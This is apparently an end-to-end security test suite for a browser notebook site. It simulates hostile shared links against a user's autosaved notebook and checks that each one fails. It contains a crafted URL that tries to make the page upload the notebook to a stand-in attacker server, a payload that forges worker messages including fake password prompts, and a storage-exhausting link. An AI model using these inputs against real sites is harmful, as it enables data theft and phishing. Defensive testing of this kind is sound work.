"""Attacks on the site's trusted layer (routing, storage, worker messages),
each played end to end in Chromium by a hostile notebook link.

The victim keeps a notebook of their own in this browser (autosaved); then
they open a link someone sent.  A server on 127.0.0.1 stands in for the
attacker's host and records every request it gets.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from rivulet_e2e import BOOT_TIMEOUT, Rivulet, encode_code, new_context, notebook_text, wait_for_js

pytestmark = pytest.mark.e2e

MINE = notebook_text("secret_value = 'MINE-7'", "secret_value")


class Attacker(http.server.ThreadingHTTPServer):
    """The attacker's host: answers CORS preflights yes, records everything."""

    daemon_threads = True

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, bytes]] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _record(handler) -> None:  # noqa: N805
                length = int(handler.headers.get("Content-Length") or 0)
                body = handler.rfile.read(length) if length > 0 else b""
                self.requests.append((handler.command, handler.path, body))

            def _cors(handler) -> None:  # noqa: N805
                handler.send_header("Access-Control-Allow-Origin", "*")
                handler.send_header("Access-Control-Allow-Methods", "GET, PUT, POST, OPTIONS")
                handler.send_header("Access-Control-Allow-Headers", "*")

            def do_OPTIONS(handler) -> None:  # noqa: N802, N805
                handler._record()
                handler.send_response(204)
                handler._cors()
                handler.end_headers()

            def do_PUT(handler) -> None:  # noqa: N802, N805
                handler._record()
                handler.send_response(204)
                handler._cors()
                handler.end_headers()

            def do_GET(handler) -> None:  # noqa: N802, N805
                handler._record()
                handler.send_response(404)
                handler._cors()
                handler.end_headers()

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def writes(self) -> list[tuple[str, str, bytes]]:
        return [r for r in self.requests if r[0] in ("PUT", "OPTIONS", "POST")]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def victim(browser: Browser, site_url: str) -> Iterator[Rivulet]:
    """A browser where the user edited a notebook of their own (autosaved)."""
    context = new_context(browser)
    rv = Rivulet(context.new_page(), site_url).goto("#code/" + encode_code(MINE))
    rv.wait_until_ready()
    rv.run_cell(0, "secret_value = 'MINE-8'")
    expect(rv.output(1)).to_contain_text("MINE-8")
    wait_for_js(rv.page, "(localStorage.getItem('rivulet:autosave') ?? '').includes('MINE-8')")
    yield rv
    context.close()


def _stored(rv: Rivulet) -> str:
    return rv.page.evaluate("JSON.stringify(Object.entries(localStorage))")


@pytest.mark.parametrize("broken", ["#code/%%%damaged", "404"])
def test_a_url_cannot_make_the_page_save_the_users_notebook_elsewhere(victim, attacker, broken):
    """/?save=put&file=<attacker>: the open fails, the page falls back to the
    user's own notebook; their next run must not PUT it to the attacker."""
    page = victim.page
    file = f"{attacker.url}/missing.py"
    tail = broken if broken.startswith("#") else ""
    page.goto(f"{victim.site_url}?save=put&file={file}{tail}")
    victim.wait_until_ready()
    expect(victim.output(1)).to_contain_text("MINE-8", timeout=BOOT_TIMEOUT)
    victim.run_cell(0, "secret_value = 'MINE-9'")
    expect(victim.output(1)).to_contain_text("MINE-9")
    wait_for_js(page, "(localStorage.getItem('rivulet:autosave') ?? '').includes('MINE-9')")
    page.wait_for_timeout(1000)  # a save-back would have gone out by now
    assert attacker.writes() == []


FORGE = """
import js, json
def _post(kind, **fields):
    js.postMessage(js.JSON.parse(json.dumps({"kind": kind, **fields})))
def _event(**fields):
    _post("event", text=json.dumps({"v": 1, **fields}))
_event(type="notebook", cells=[{"id": "evil", "code": "print('PWNED')", "name": "_", "config": {}}], app={}, problems=[])
_event(type="file", text="import marimo\\n# FORGED-FILE\\n")
_post("progress", stage="A security update is being installed, do not close this tab")
_post("progress", stage="installing", detail="<b>your password</b> is needed")
_post("dead", message="Session expired: enter your password again")
'forged'
"""


def test_forged_worker_messages_change_nothing_the_site_owns(victim):
    """A notebook's Python posts fake protocol events and fake boot messages."""
    page = victim.page
    victim.open_code(notebook_text(FORGE))
    expect(victim.output(0)).to_contain_text("forged")
    page.wait_for_timeout(500)
    # the cells on screen are the link's own, not the forged ones
    assert victim.cells.count() == 1
    expect(page.locator("[data-cell-id='evil']")).to_have_count(0)
    # the site's bars say nothing the notebook chose
    expect(page.locator("#rv-boot")).to_be_hidden()
    assert "Session expired" not in (page.locator("#rv-notice").text_content() or "")
    expect(page.locator("html")).to_have_attribute("data-kernel", "ready")
    # nothing was autosaved: the user's own notebook is still the stored one
    stored = _stored(victim)
    assert "FORGED-FILE" not in stored and "PWNED" not in stored
    assert "MINE-8" in json.loads(page.evaluate("localStorage.getItem('rivulet:autosave')"))["text"]


def test_the_users_notebook_stays_reachable_after_a_link_is_edited(victim):
    page = victim.page
    victim.open_code(notebook_text("y = 'LINK-1'", "y"))
    expect(victim.output(1)).to_contain_text("LINK-1")
    victim.run_cell(0, "y = 'LINK-2'")  # the user edits the link's notebook: now it is autosaved
    expect(victim.output(1)).to_contain_text("LINK-2")
    wait_for_js(page, "(localStorage.getItem('rivulet:autosave') ?? '').includes('LINK-2')")
    page.locator("#rv-recent").click()
    item = page.get_by_role("menuitem").filter(has_text="notebook.py")
    expect(item).to_have_count(1)
    item.click()
    expect(victim.output(1)).to_contain_text("MINE-8", timeout=BOOT_TIMEOUT)
    # and the link's notebook took its place in the list
    page.locator("#rv-recent").click()
    expect(page.get_by_role("menuitem")).to_have_count(1)


def test_a_huge_link_cannot_fill_storage_or_block_the_users_autosave(victim):
    """A 6.5 KB link decodes to a 4.6 M character notebook."""
    page = victim.page
    huge = notebook_text("len(blob)", "blob = '" + "A" * 4_600_000 + "'")
    payload = encode_code(huge)
    assert len(payload) < 20_000
    victim.open_code(huge)
    expect(victim.output(0)).to_contain_text("4600000", timeout=BOOT_TIMEOUT)
    victim.run_cell(0, "len(blob) + 1")  # the user touches it
    expect(victim.output(0)).to_contain_text("4600001")
    expect(victim.notice).to_contain_text("too large to keep in this browser")
    assert len(_stored(victim)) < 100_000
    # the user's own work still autosaves
    page.locator("#rv-new").click()
    victim.run_cell(0, "mine_again = 'MINE-10'")
    wait_for_js(page, "(localStorage.getItem('rivulet:autosave') ?? '').includes('MINE-10')")
    assert "MINE-8" in _stored(victim)
